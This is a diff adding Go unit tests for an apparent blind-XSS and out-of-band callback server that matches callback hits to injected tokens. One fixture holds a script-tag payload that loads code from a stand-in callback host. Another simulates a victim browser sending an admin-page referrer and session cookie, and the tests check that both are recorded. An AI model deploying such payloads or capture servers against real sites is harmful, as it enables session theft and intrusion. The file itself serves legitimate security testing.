@@ -0,0 +1,114 @@
+package callback
+
+import (
+	"net/http"
+	"net/http/httptest"
+	"reflect"
+	"strings"
+	"testing"
+	"time"
+)
+
+func TestServerCorrelatesHit(t *testing.T) {
+	index := NewIndex()
+	token := NewToken()
+	inj := Injection{Token: token, URL: "https://target.example/search", Param: "q", Payload: "<script src=//cb/" + token + "></script>"}
+	index.Add(inj)
+	index.Add(Injection{Token: NewToken(), URL: "https://target.example/other", Param: "id"})
+
+	server := NewServer("", index)
+	listener := httptest.NewServer(server)
+	defer listener.Close()
+
+	req, err := http.NewRequest(http.MethodPost, listener.URL+"/c", strings.NewReader("dom=<html>"+token+"</html>"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	req.Header.Set("Referer", "https://admin.target.example/tickets")
+	req.Header.Set("User-Agent", "victim-browser")
+	req.Header.Set("Cookie", "session=abc")
+	resp, err := http.DefaultClient.Do(req)
+	if err != nil {
+		t.Fatal(err)
+	}
+	resp.Body.Close()
+
+	hits := server.Hits()
+	if len(hits) != 1 {
+		t.Fatalf("%d hits, want 1", len(hits))
+	}
+	hit := hits[0]
+	if hit.Injection == nil {
+		t.Fatal("hit wasn't correlated to its injection")
+	}
+	if !reflect.DeepEqual(*hit.Injection, inj) {
+		t.Errorf("hit correlated to %+v, want %+v", *hit.Injection, inj)
+	}
+	if hit.Method != http.MethodPost || hit.Path != "/c" {
+		t.Errorf("hit = %s %s, want POST /c", hit.Method, hit.Path)
+	}
+	if hit.Referrer != "https://admin.target.example/tickets" || hit.UserAgent != "victim-browser" || hit.Cookies != "session=abc" {
+		t.Errorf("hit details = %+v", hit)
+	}
+}
+
+func TestServerUncorrelatedHit(t *testing.T) {
+	index := NewIndex()
+	index.Add(Injection{Token: NewToken(), URL: "https://target.example/"})
+	server := NewServer("", index)
+
+	rec := httptest.NewRecorder()
+	server.ServeHTTP(rec, httptest.NewRequest(http.MethodGet, "/favicon.ico", nil))
+
+	hits := server.Hits()
+	if len(hits) != 1 || hits[0].Injection != nil {
+		t.Fatalf("hits = %+v, want one without an injection", hits)
+	}
+}
+
+func TestInteractshRecordsHits(t *testing.T) {
+	index := NewIndex()
+	token := NewToken()
+	index.Add(Injection{Token: token, URL: "https://target.example/?q=1", Point: "query", Param: "q"})
+	collaborator := NewInteractsh("oast.example", index)
+
+	var called int
+	collaborator.OnHit = func(Hit) { called++ }
+	collaborator.handle(interaction{Protocol: "http", RawRequest: "GET /" + token + " HTTP/1.1\r\n", RemoteAddress: "203.0.113.7"})
+	collaborator.handle(interaction{Protocol: "dns", QType: "A"})
+
+	hits := collaborator.Hits()
+	if len(hits) != 2 || called != 2 {
+		t.Fatalf("%d hits recorded, %d passed to OnHit, want 2", len(hits), called)
+	}
+	if hits[0].Injection == nil || hits[0].Injection.Param != "q" {
+		t.Errorf("first hit correlated to %+v, want the q injection", hits[0].Injection)
+	}
+	if hits[1].Injection != nil || hits[1].Method != "DNS A" {
+		t.Errorf("second hit = %s correlated to %+v, want an uncorrelated DNS A", hits[1].Method, hits[1].Injection)
+	}
+}
+
+func TestHitMarksTokenFired(t *testing.T) {
+	index := NewIndex()
+	token, other := NewToken(), NewToken()
+	index.Add(Injection{Token: token, URL: "https://target.example/"})
+	index.Add(Injection{Token: other, URL: "https://target.example/other"})
+	server := NewServer("", index)
+
+	before := time.Now()
+	if index.FiredSince(token, before) {
+		t.Fatal("token fired before any callback")
+	}
+	server.ServeHTTP(httptest.NewRecorder(), httptest.NewRequest(http.MethodGet, "/"+token, nil))
+
+	if !index.FiredSince(token, before) {
+		t.Error("callback carrying the token didn't mark it fired")
+	}
+	if index.FiredSince(token, time.Now().Add(time.Second)) {
+		t.Error("token reported fired after its callback")
+	}
+	if index.FiredSince(other, before) {
+		t.Error("token without a callback reported fired")
+	}
+}